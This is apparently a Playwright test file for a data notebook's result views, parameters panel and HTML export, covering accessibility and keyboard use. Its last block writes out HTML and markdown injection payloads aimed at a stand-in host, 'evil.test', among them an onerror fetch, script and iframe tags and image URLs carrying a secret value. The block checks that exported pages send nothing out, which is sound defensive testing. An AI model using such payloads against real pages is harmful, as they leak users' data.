import assert from 'node:assert/strict';
import { exportHtml } from '../../../client/src/notebook/exportNotebook.ts';
import { htmlWriter } from '../../../client/src/results/export/formats/html.ts';
import type {
  NotebookParametersCalls,
  NotebookParametersEvent,
} from '../../../client/src/protocol/notebookParameters.ts';
import { spokenLanguage } from '../../../client/src/protocol/language.ts';
import type { ParameterField } from '../../../client/src/protocol/parameters.ts';
import { drawPicture } from '../../../media/src/chartPicture/main.ts';
import { countries } from '../../../scripts/countries.cjs';
import { axeFaults, axeFaultsInThemes } from './axeFaults.ts';
import { cellResults } from './cellResults.ts';
import { chartResults } from './chartResults.ts';
import { beyond, isForEverybody } from './isForEverybody.ts';
import { type NotebookPage, openNotebook } from './notebookPage.ts';
import { openPageOfOurs, type PageOfOurs } from './pageOfOurs.ts';
import { type ThemeKind, themes } from './themes.ts';

/** As much as 1280 × 800 pixels hold at twice the size. */
const zoomed = { width: 640, height: 400 };

describe('results below cells, for everybody', () => {
  let notebook: NotebookPage;

  before(async () => {
    notebook = await openNotebook();
  });
  after(() => notebook.close());

  it('have no fault that axe finds, in any theme', async () => {
    const { page } = notebook;
    await notebook.open(...cellResults);
    await notebook.look({ grid: { state: 'stale' }, chart: { state: 'running' } });
    await page.locator('.badge.stale').waitFor();
    await page.locator('hogql-chart canvas').first().waitFor();
    assert.deepEqual(await axeFaultsInThemes(page), []);
    await page.getByRole('button', { name: 'Pivot' }).first().click();
    await page.getByText(/rows in \d+ groups/).waitFor();
    assert.deepEqual(await axeFaultsInThemes(page), []);
  });

  it('are reached by Tab alone: views, grid and buttons', async () => {
    const { page } = notebook;
    await notebook.open(...cellResults.slice(0, 1));
    await page.getByRole('gridcell').first().waitFor();
    for (const name of ['Grid', 'Chart', 'Pivot', 'Copy Query', 'Open in Results']) {
      await page.keyboard.press('Tab');
      await page.locator(':focus', { hasText: name }).waitFor();
    }
    await page.keyboard.press('Tab');
    await page.locator('[role="gridcell"]:focus').waitFor();
    await page.keyboard.press('Shift+Tab');
    await page.locator(':focus', { hasText: 'Open in Results' }).waitFor();
  });

  isForEverybody({
    page: () => notebook.page,
    zoomed,
    show: async () => {
      await notebook.open(...cellResults);
      await notebook.look({ grid: { state: 'stale' }, chart: { state: 'running' } });
      await notebook.page.locator('hogql-chart canvas').first().waitFor();
    },
  });
});

const fields: readonly ParameterField[] = [
  { key: 'values.from', label: 'from', type: 'date', text: '', problem: 'Enter a value.' },
  { key: 'values.n', label: 'n', type: 'number', text: 'x', problem: 'Enter a number.' },
  { key: 'values.kind', label: 'kind', type: 'text', text: '', types: ['text', 'number'] },
  { key: 'values.event', label: 'event', type: 'text', text: 'a', suggestions: ['$pageview'] },
  {
    key: 'variables.country',
    label: 'Country',
    type: 'choice',
    text: 'DE',
    choices: ['US', 'DE'],
    variable: 'known',
  },
  { key: 'filters.properties', label: 'Where', type: 'properties', text: '' },
  { key: 'filters.testAccounts', label: 'Without test accounts', type: 'boolean', text: 'false' },
];

describe('the parameters of a notebook, for everybody', () => {
  let view: PageOfOurs<NotebookParametersCalls, NotebookParametersEvent>;
  const nothing = (): Promise<undefined> => Promise.resolve(undefined);

  before(async () => {
    const handlers = {
      ready: nothing,
      keep: nothing,
      editVariable: nothing,
      addPlaceholder: nothing,
      runStale: nothing,
    };
    view = await openPageOfOurs<NotebookParametersCalls, NotebookParametersEvent>(
      'notebookParameters',
      handlers,
    );
    await view.page.setViewportSize({ width: 300, height: 700 });
  });
  after(() => view.close());
  beforeEach(() => view.load());

  const show = (): Promise<void> => view.tell({ type: 'fields', notebook: 'file:///n', fields });

  it('have no fault that axe finds, in any theme', async () => {
    const { page } = view;
    await view.tell({ type: 'fields', notebook: 'file:///n', fields: [] });
    await page.getByText('No cell of this notebook').waitFor();
    assert.deepEqual(await axeFaultsInThemes(page), []);
    await show();
    await page.getByLabel('Add a condition').click();
    await page.getByRole('combobox', { name: 'from', exact: true }).click();
    await page.getByRole('option', { name: '-7d' }).first().waitFor();
    assert.deepEqual(await axeFaultsInThemes(page), []);
    for (const kind of Object.keys(themes) as ThemeKind[]) {
      await view.paint(kind);
      await page.screenshot({ path: `test-results/notebook-parameters-${kind}.png` });
    }
  });

  it('keep what is picked from a list by keys', async () => {
    await show();
    const field = view.page.getByRole('combobox', { name: 'event' });
    await field.fill('');
    await field.press('ArrowDown');
    await view.page.getByRole('option', { name: '$pageview' }).waitFor();
    await field.press('ArrowDown');
    await field.press('Enter');
    await view.page.getByRole('option').first().waitFor({ state: 'detached' });
    assert.equal(await field.inputValue(), '$pageview');
    const methods = view.calls.map(({ method }) => method);
    assert.deepEqual([methods.includes('keep'), methods.includes('runStale')], [true, false]);
  });

  it('offer a cell with a placeholder where no cell has one', async () => {
    const { page } = view;
    await view.tell({ type: 'fields', notebook: 'file:///n', fields: [] });
    await page.getByRole('button', { name: 'Add a Cell with a Placeholder' }).press('Enter');
    const asked = view.calls.filter(({ method }) => method === 'addPlaceholder');
    assert.deepEqual(
      asked.map(({ params }) => params),
      [{ notebook: 'file:///n' }],
    );
    await show();
    await page.getByText('No cell of this notebook').waitFor({ state: 'hidden' });
  });

  it('adds a condition by keys, under the strict policy', async () => {
    const { page } = view;
    const before = view.complaints.length;
    await show();
    await page.getByLabel('Add a condition').press('Enter');
    await page.getByLabel('Property', { exact: true }).fill('plan');
    await page.getByLabel('Remove the condition').press('Enter');
    await page.getByLabel('Remove the condition').waitFor({ state: 'detached' });
    assert.deepEqual(view.complaints.slice(before), []);
  });

  isForEverybody({
    page: () => view.page,
    zoomed: { width: 170, height: 400 },
    show: async () => {
      await view.load();
      await show();
      await view.page.getByLabel('Add a condition').click();
      await view.page.getByRole('combobox', { name: 'from', exact: true }).click();
      await view.page.getByRole('option', { name: '-7d' }).first().waitFor();
    },
  });
});

/** A notebook and a result as pages of their own, which anybody may open in any browser. */
async function exportedPages(): Promise<Readonly<Record<string, string>>> {
  const { columns, rows, spec } = chartResults.line;
  const [{ result: shown }] = cellResults as [(typeof cellResults)[number]];
  const [first = [], ...others] = shown.firstRows;
  const result = { ...shown, firstRows: [first.with(1, null), ...others] };
  const picture = await drawPicture({
    language: spokenLanguage(),
    spec,
    columns,
    rows,
    width: 900,
    height: 340,
    countries: () => Promise.resolve(countries()),
  });
  const long = `select ${Array.from({ length: 60 }, (_, at) => `column_${at}`).join(', ')}`;
  const notebook = exportHtml('The week', [
    { kind: 'markdown', title: '', value: '# The week\n\nWhat people did.', results: [] },
    { kind: 'query', title: 'daily', value: `${long} -- all\nfrom events`, results: [{ result }] },
    {
      kind: 'query',
      title: 'drawn',
      value: "select 'a', 7",
      results: [
        picture
          ? {
              result,
              picture,
            }
          : { result },
      ],
    },
  ]);
  const table = htmlWriter({ title: 'daily', columns });
  return {
    notebook,
    result: [table.head(), ...rows.map((row) => table.row(row)), table.tail()].join(''),
  };
}

describe('exported pages, for everybody', () => {
  let notebook: NotebookPage;
  let pages: Readonly<Record<string, string>>;

  before(async () => {
    [notebook, pages] = await Promise.all([openNotebook(), exportedPages()]);
  });
  after(() => notebook.close());

  for (const colorScheme of ['light', 'dark'] as const) {
    it(`have no fault that axe finds, and fit at twice the size, in ${colorScheme}`, async () => {
      const { page } = notebook;
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize(zoomed);
      for (const [name, html] of Object.entries(pages)) {
        // The page forbids scripts, axe among them.
        await page.setContent(html.replace(/<meta http-equiv[^>]*>/, ''));
        assert.deepEqual(await axeFaults(page, { isWhole: true }), [], name);
        await page.screenshot({ path: `test-results/exported-${name}-${colorScheme}.png` });
      }
      await page.setContent(pages['notebook'] ?? '');
      assert.deepEqual(await beyond(page), []);
    });
  }
});

describe('an exported page with hostile words', () => {
  const evil = 'http://evil.test';
  const stolen = '4711-secret';
  let notebook: NotebookPage;

  before(async () => {
    notebook = await openNotebook();
  });
  after(() => notebook.close());

  /** Places that a page may ask for something by itself. */
  const asking: readonly string[] = [
    `![words](${evil}/image?t={{ s.total }})`,
    `![{{ s.total }}][reference]\n\n[reference]: ${evil}/reference`,
    `<img src="${evil}/element?t={{ s.total }}" onerror="fetch('${evil}/handler')">`,
    `<script src="${evil}/script"></script><link rel="stylesheet" href="${evil}/sheet">`,
    `<iframe src="${evil}/frame"></iframe><video src="${evil}/video" autoplay></video>`,
    `<meta http-equiv="refresh" content="0; url=${evil}/refresh"><base href="${evil}/base/">`,
    `<style>@import "${evil}/import"; body { background: url(${evil}/background) }</style>`,
    `<form action="${evil}/form"><input autofocus onfocus="this.form.submit()"></form>`,
    `<svg><image href="${evil}/svg" /></svg><object data="${evil}/object"></object>`,
  ];

  /** A page whose results have a value that its words want to send. */
  function exported(): string {
    const [{ result: shown }] = cellResults as [(typeof cellResults)[number]];
    const [column] = shown.columns;
    assert.ok(column);
    const result = { ...shown, columns: [{ ...column, name: 'total' }], firstRows: [[stolen]] };
    const words = asking.map((value): Parameters<typeof exportHtml>[1][number] => {
      return { kind: 'markdown', title: '', value: `{{ s.total }} ${value}`, results: [] };
    });
    const query = { kind: 'query', title: 's', value: 'select 1', results: [{ result }] } as const;
    return exportHtml(`</title><img src="${evil}/title">`, [query, ...words]);
  }

  const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
  const pages: readonly (readonly [what: string, html: () => string])[] = [
    ['asks for nothing when it is opened', exported],
    ['asks for nothing by its markup, without its policy', () => exported().replace(policy, '')],
  ];
  for (const [what, html] of pages) {
    it(what, async () => {
      const { page } = notebook;
      const asked: string[] = [];
      const address = 'http://exported.test/page.html';
      const note = (request: { url(): string }): void => void asked.push(request.url());
      await page.route('**', (route) =>
        route.request().url() === address
          ? route.fulfill({ contentType: 'text/html', body: html() })
          : route.abort(),
      );
      page.on('request', note);
      try {
        await page.goto(address, { waitUntil: 'networkidle' });
        await page.getByText(stolen).nth(asking.length).waitFor();
        assert.deepEqual(asked, [address]);
        assert.equal(page.url(), address);
      } finally {
        page.off('request', note);
        await page.unroute('**');
      }
    });
  }
});
